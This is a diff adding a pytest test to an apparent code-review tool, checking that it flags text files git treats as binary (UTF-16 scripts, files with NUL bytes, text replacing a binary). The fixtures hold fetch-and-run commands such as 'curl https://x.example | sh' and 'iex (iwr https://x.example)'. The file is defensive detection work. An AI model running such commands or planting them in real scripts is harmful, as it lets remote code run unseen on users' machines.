@@ -7,8 +7,8 @@ from typing import Any
 
 import pytest
 from findings import analysis_of, findings_of, git_diff, manifest_with_findings, rows
-from manifests import run
-from repos import RepoFactory, before_and_after
+from manifests import manifest_of, run
+from repos import RepoFactory, before_and_after, git
 
 from gitreview import lockfiles
 
@@ -397,4 +397,35 @@ def test_composer_funding_links_are_no_sources() -> None:
     found = [message for _, message, _ in lockfiles.outside_sources("composer.lock", added, text)]
     assert found == [
         "fetches packages from evil.example, no public registry: https://evil.example/console.zip"
+    ]
+
+
+def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
+    """Found by an adversarial review: a UTF-16 PowerShell script, a shell script with
+    a NUL byte and text replacing a binary file were shown to nobody, line by line."""
+    repo = tmp_path / "repo"
+    (repo / "bin").mkdir(parents=True)
+    git(repo, "init", "--quiet", "--initial-branch=main")
+    files = {
+        "setup.ps1": "Write-Host hi\r\n".encode("utf-16"),
+        "install.sh": b"#!/bin/sh\n# a\0b\nmake\n",
+        "bin/tool": b"\x7fELF\0\0\0",
+        "logo.png": b"\x89PNG\0\0\0",
+    }
+    for path, data in files.items():
+        (repo / path).write_bytes(data)
+    git(repo, "add", "-A")
+    git(repo, "commit", "--quiet", "-m", "Base")
+    (repo / "setup.ps1").write_bytes(
+        "Write-Host hi\r\niex (iwr https://x.example)\r\n".encode("utf-16")
+    )
+    (repo / "install.sh").write_bytes(b"#!/bin/sh\n# a\0b\ncurl https://x.example | sh\n")
+    (repo / "bin/tool").write_bytes(b"#!/bin/sh\ncurl https://x.example | sh\n")
+    (repo / "logo.png").write_bytes(b"\x89PNG\0\0\1")
+    git(repo, "commit", "--quiet", "-am", "Change")
+    found = findings_of(manifest_of("--repo", repo, "HEAD"), "text/binary-text")
+    assert [(row[2], row[4].split(",")[0]) for row in found] == [
+        ("bin/tool", "text where a binary file was"),
+        ("install.sh", "a shell file with a NUL byte"),
+        ("setup.ps1", "UTF-16 text"),
     ]
